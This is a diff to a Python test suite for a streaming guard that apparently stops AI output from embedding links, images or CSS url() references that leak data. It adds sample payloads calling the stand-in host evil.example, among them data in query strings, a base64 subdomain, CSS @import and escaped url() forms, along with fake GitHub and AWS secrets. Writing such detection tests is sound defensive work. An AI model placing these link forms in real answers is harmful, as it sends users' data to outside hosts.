@@ -160,6 +160,17 @@ SAFE = st.sampled_from(
         "![ok][ok]\n",
         "![a [nested] alt](https://docs.python.org/3/logo.png) ",
         FILLER,
+        # Forms the link detector learned late, allowed or data-free.
+        '<div style="background:url(https://docs.python.org/bg.png)">x</div>',
+        "<style>.b { background: url('https://docs.python.org/bg.png') }\n",  # may stay open
+        "</style>",
+        "<style>.c{background:\\75 rl(https://docs.python.org/c.png)}</style>",
+        "[see [1]](https://evil.example/page) ",
+        "[[2]](https://evil.example/cite) ",
+        f"![{ALT} [fig]](https://docs.python.org/p.png) ",
+        "![a][r\\]x] ",
+        "\n[r\\]x]: https://docs.python.org/t.png\n",
+        "[cdn](https://images-eu.ssl-images-amazon.com/images/I/x.jpg) ",
     ]
 )
 UNSAFE = st.sampled_from(
@@ -173,6 +184,14 @@ UNSAFE = st.sampled_from(
         f"![{ALT} [nested]](https://evil.example/p.png?d={DATA})",
         f"![escaped \\] bracket](https://evil.example/p.png?d={DATA})",
         f"\n[q]:\n  https://evil.example/x?d={DATA}\n",
+        '<p style="background-image: url(//evil.example/p.png)">x</p>',
+        ".d { background: url(https://evil.example/d.png) }",  # unsafe inside <style> only
+        "<style>@import 'https://evil.example/s.css';</style>",
+        "[click](https://c2VjcmV0LXZhbHVl.evil.example/) ",
+        "[me](https://john.doe.example.com.evil.example/) ",
+        "![" + "long words " * 60 + "[x]](https://evil.example/p.png) ",
+        "![a \\[1\\]][r\\]x] ",
+        "\n[r\\]x]: https://evil.example/t.png\n",
         CANARY,
         "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8 ",
         "AKIAIOSFODNN7EXAMPLE aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY ",
@@ -249,3 +268,132 @@ def test_a_partly_streamed_destination_is_not_judged_by_its_partial_host() -> No
         released, violations = stream(compiled, chunked(text, size))
         assert violations == [], size
         assert released == text
+
+
+# The forms the link detector learned late (CSS url(...), data in host names, image
+# labels longer than the look-back, escaped reference labels).
+LONG_LABEL = "word " * 150 + "[fig. 1]"  # ~760 chars: the "![" is beyond the look-back
+
+LATE_UNSAFE = {
+    "style-attribute": f'<div style="background:url(https://evil.example/p.png?d={DATA})">x</div>',
+    "style-attribute-no-data": "<p style=\"background-image: url('//evil.example/p.png')\">x</p>",
+    "style-block": "<style>\n.a { background: url(https://evil.example/p.png) }\n</style>",
+    "style-block-far-url": (
+        "<style>\n"
+        + "/* keep this rule */ .a { color: red }\n" * 60
+        + ".b { background: url(https://evil.example/p.png) }\n</style>"
+    ),
+    "style-block-import": '<style>@import "https://evil.example/s.css";</style>',
+    "style-block-escaped": "<style>.b{background:\\75 rl(https://evil.example/p.png)}</style>",
+    "host-data-link": "Please [click here](https://c2VjcmV0LXZhbHVl.evil.example/) now.",
+    "host-data-nested-domain": "[profile](https://john.doe.example.com.evil.example/)",
+    "far-bang-image": f"Intro. ![{LONG_LABEL}](https://evil.example/p.png) end.",
+    "far-bang-image-escaped": "Intro. ![a\\]" + "b" * 700 + "](https://evil.example/p.png) end.",
+    "escaped-reference-image": (
+        f"Summary ![status][r\\]x]\n\n{FILLER}\n\n[r\\]x]: https://evil.example/t.png\n"
+    ),
+    "escaped-reference-def-first": (
+        f"[r\\]x]: https://evil.example/t.png\n\n{FILLER}\n\nSummary ![status][r\\]x]\n"
+    ),
+}
+
+LATE_SAFE = {
+    "style-attribute-allowed": '<div style="background:url(https://docs.python.org/bg.png)">x</div>',
+    "style-attribute-escaped-allowed": (
+        '<div style="background:\\75 rl(https://docs.python.org/bg.png)">x</div>'
+    ),
+    "style-block-allowed": (
+        "<style>\n"
+        + "/* keep this rule */ .a { color: red }\n" * 60
+        + ".b { background: url(https://docs.python.org/bg.png) }\n</style>"
+    ),
+    "style-block-escaped-allowed": (
+        "<style>.b{background:\\75 rl(https://docs.python.org/bg.png)}</style>"
+    ),
+    "style-block-image-set-allowed": (
+        "<style>.b{background:image-set('a.png' 1x, 'https://docs.python.org/b.png' 2x)}</style>"
+    ),
+    "css-after-style-block": (
+        "<style>p{color:red}</style>\n" + FILLER + " background:url(https://evil.example/p)"
+    ),
+    "citation-links-long-paragraph": (
+        "Citations " * 70 + "[[1]](https://evil.example/a) and [[2]](https://evil.example/b)."
+    ),
+    "long-label-link-to-allowed": f"Intro. ![{LONG_LABEL}](https://docs.python.org/p.png) end.",
+    "escaped-reference-allowed": (
+        f"![status][r\\]x]\n\n{FILLER}\n\n[r\\]x]: https://docs.python.org/t.png\n"
+    ),
+    "ordinary-host-link": "See [the CDN](https://images-eu.ssl-images-amazon.com/images/x) ok.",
+}
+
+LATE_SIZES = [*range(1, 17), 31, 64, 97, 255, 256, 257, 511]
+
+
+@pytest.mark.parametrize("name", sorted(LATE_UNSAFE))
+def test_new_forms_are_blocked_under_every_chunking(name: str) -> None:
+    compiled = policy()
+    text = LATE_UNSAFE[name]
+    assert whole(compiled, text), name
+    for size in [*LATE_SIZES, len(text)]:
+        for offset in (0, 1, 3) if size > 3 else (0,):
+            released, violations = stream(compiled, chunked(text, size, offset))
+            assert violations, (name, size, offset)
+            marker = "![status]" if name == "escaped-reference-def-first" else "evil.example"
+            assert marker not in released, (name, size, offset)
+
+
+@pytest.mark.parametrize("name", sorted(LATE_SAFE))
+def test_safe_forms_pass_whole_and_under_every_chunking(name: str) -> None:
+    text = LATE_SAFE[name]
+    for window_tokens in (4, 64):
+        compiled = policy(window_tokens)
+        assert not whole(compiled, text), name
+        for size in [*LATE_SIZES, len(text)]:
+            released, violations = stream(compiled, chunked(text, size))
+            assert not violations, (name, window_tokens, size)
+            assert released == text
+
+
+def test_an_open_style_attribute_is_held_until_it_closes() -> None:
+    compiled = policy(window_tokens=4)
+    guard = new_guard(compiled)
+    out = guard.feed('Intro text here. <div style="background:url(https://docs.python.o')
+    assert out == "Intro text here. <div "
+    out += guard.feed('rg/bg.png)">x</div> and then some more trailing words here')
+    out += guard.finish()
+    assert not guard.violations
+    assert out.endswith("trailing words here")
+
+
+@st.composite
+def destinations_near_the_reach(draw: st.DrawFn) -> tuple[str, list[str]]:
+    """A "](url" whose "![" or "[" sits around LABEL_REACH chars back, behind labels the
+    simple pattern cannot read, with reference lines and style elements in front."""
+    head = draw(st.sampled_from(["", "Intro.\n\n", "![r]\n\n[r]: https://docs.python.org/r.png\n"]))
+    opener = draw(st.sampled_from(["![", "[", "", "\n\n![", "<style>"]))
+    words = draw(
+        st.lists(
+            st.sampled_from(["word ", "[a] ", "`c` ", "\\] ", "\n", "(p) ", "![i](x.png) ", "x"]),
+            min_size=100,
+            max_size=160,
+        )
+    )
+    host = draw(st.sampled_from(["evil.example", "docs.python.org"]))
+    text = head + opener + "".join(words) + f"](https://{host}/p.png) tail words."
+    sizes = itertools.cycle(draw(st.lists(st.integers(1, 64), min_size=1, max_size=6)))
+    chunks, at = [], 0
+    while at < len(text):
+        size = next(sizes)
+        chunks.append(text[at : at + size])
+        at += size
+    return text, chunks
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(destinations_near_the_reach(), st.sampled_from([4, 64]))
+def test_destinations_near_the_reach_get_the_whole_answer_verdict(
+    case: tuple[str, list[str]], window_tokens: int
+) -> None:
+    text, chunks = case
+    compiled = policy(window_tokens)
+    assert bool(stream(compiled, chunks)[1]) == bool(whole(compiled, text))
